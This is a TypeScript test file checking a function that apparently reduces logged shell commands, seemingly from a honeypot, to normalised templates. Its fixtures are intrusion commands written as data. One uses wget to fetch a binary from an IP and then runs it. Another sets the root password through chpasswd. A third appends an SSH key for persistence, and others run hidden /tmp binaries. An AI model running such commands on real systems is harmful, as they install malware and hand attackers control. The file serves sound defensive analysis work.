import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { shapeOf } from '../../src/analysis/shape.ts'

describe('the shape of an input', () => {
  it.each([
    ['cd /tmp; wget http://198.51.100.9/bins/x86; sh x86', 'cd /tmp; wget http://203.0.113.44:8080/bins/x86; sh x86'],
    ['echo "root:qW8xJ2kLp"|chpasswd|bash', 'echo "root:Zz01aPqR9"|chpasswd|bash'],
    ['echo -e "admin\\nXk29sLq\\nXk29sLq" | passwd', 'echo -e "admin\\nPq71zzA\\nPq71zzA" | passwd'],
    ['echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQ== x" >> k', 'echo "ssh-rsa AAAAB3NzaC1yc2EAAAABIw== x" >> k'],
    ['/tmp/.x7f3 12345', '/tmp/.q9ab 777'],
    ['echo 7f454c4602010100aabbccdd > f', 'echo 7f454c4601010100eeff0011 > f'],
  ])('is the same when only what varies differs: %s', (one, other) => {
    expect(shapeOf(one)).toBe(shapeOf(other))
  })

  it.each([
    ['uname -a', 'uname -r'],
    ['wget http://198.51.100.9/a.sh', 'curl http://198.51.100.9/a.sh'],
    ['wget http://198.51.100.9/mips', 'wget http://198.51.100.9/arm'],
    ['ls', 'ls -la'],
  ])('differs when something else is done: %s, %s', (one, other) => {
    expect(shapeOf(one)).not.toBe(shapeOf(other))
  })

  it('can be read', () => {
    expect(shapeOf('cd /tmp;  wget http://198.51.100.9/bins/x86')).toBe('cd /tmp; wget <url:/bins/xn>')
    expect(shapeOf('ping -c 10 198.51.100.9')).toBe('ping -c <n> <ip>')
  })

  it('is had quickly of any text', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (text) => typeof shapeOf(text) === 'string'))
    for (const part of ['a:', '"', 'A', '1.', '/tmp/', '\\x41', 'http://', ' ']) {
      const start = performance.now()
      shapeOf(part.repeat(100_000))
      expect(performance.now() - start, part).toBeLessThan(100)
    }
  })
})
